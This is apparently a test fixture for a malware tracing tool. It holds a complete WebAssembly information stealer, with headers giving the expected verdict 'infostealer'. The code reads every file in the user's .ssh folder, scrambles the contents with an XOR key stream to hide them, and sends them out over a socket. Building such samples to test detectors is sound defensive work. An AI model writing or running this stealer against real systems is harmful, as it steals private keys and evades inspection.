;; RUN: spoor trace % --json
;; WHAT: Information stealer: lists the folder of the user's keys, encrypts each file with a key stream and
;;   sends it, so that neither a name nor a byte of the loot shows.
;; EXPECT: verdict=MALICIOUS|SUSPICIOUS family=infostealer rule=exfiltration/network status=exited
(module
  (import "wasi_snapshot_preview1" "path_open" (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_readdir" (func $fd_readdir (param i32 i32 i32 i64 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_read" (func $fd_read (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_close" (func $fd_close (param i32) (result i32)))
  (import "wasi_snapshot_preview1" "sock_send" (func $sock_send (param i32 i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 1)
  (global $state (mut i32) (i32.const 0x2545f491))
  (data (i32.const 1024) "home/user/.ssh")
  (func $next (result i32)
    (global.set $state (i32.add (i32.mul (global.get $state) (i32.const 1103515245)) (i32.const 12345)))
    (i32.shr_u (global.get $state) (i32.const 16)))
  (func $encrypt (param $at i32) (param $len i32)
    (loop $byte
      (if (local.get $len)
        (then
          (i32.store8 (local.get $at) (i32.xor (i32.load8_u (local.get $at)) (call $next)))
          (local.set $at (i32.add (local.get $at) (i32.const 1)))
          (local.set $len (i32.sub (local.get $len) (i32.const 1)))
          (br $byte)))))
  (func $grab (param $dir i32) (param $name i32) (param $len i32) (local $fd i32)
    (if (call $path_open (local.get $dir) (i32.const 0) (local.get $name) (local.get $len) (i32.const 0)
        (i64.const 0x200006) (i64.const 0) (i32.const 0) (i32.const 12))
      (then (return)))
    (local.set $fd (i32.load (i32.const 12)))
    (i32.store (i32.const 0) (i32.const 8192))
    (i32.store (i32.const 4) (i32.const 4096))
    (drop (call $fd_read (local.get $fd) (i32.const 0) (i32.const 1) (i32.const 8)))
    (drop (call $fd_close (local.get $fd)))
    (call $encrypt (i32.const 8192) (i32.load (i32.const 8)))
    (i32.store (i32.const 4) (i32.load (i32.const 8)))
    (drop (call $sock_send (i32.const 4) (i32.const 0) (i32.const 1) (i32.const 0) (i32.const 8))))
  (func (export "_start") (local $dir i32) (local $at i32) (local $end i32)
    (if (call $path_open (i32.const 3) (i32.const 1) (i32.const 1024) (i32.const 14) (i32.const 2)
        (i64.const 0x206006) (i64.const 0x200006) (i32.const 0) (i32.const 12))
      (then (return)))
    (local.set $dir (i32.load (i32.const 12)))
    (drop (call $fd_readdir (local.get $dir) (i32.const 2048) (i32.const 2048) (i64.const 0) (i32.const 16)))
    (local.set $at (i32.const 2048))
    (local.set $end (i32.add (local.get $at) (i32.load (i32.const 16))))
    (block $done
      (loop $entry
        (br_if $done (i32.ge_u (i32.add (local.get $at) (i32.const 24)) (local.get $end)))
        ;; A regular file.
        (if (i32.eq (i32.load8_u offset=20 (local.get $at)) (i32.const 4))
          (then (call $grab (local.get $dir) (i32.add (local.get $at) (i32.const 24))
            (i32.load offset=16 (local.get $at)))))
        (local.set $at (i32.add (i32.add (local.get $at) (i32.const 24)) (i32.load offset=16 (local.get $at))))
        (br $entry)))))
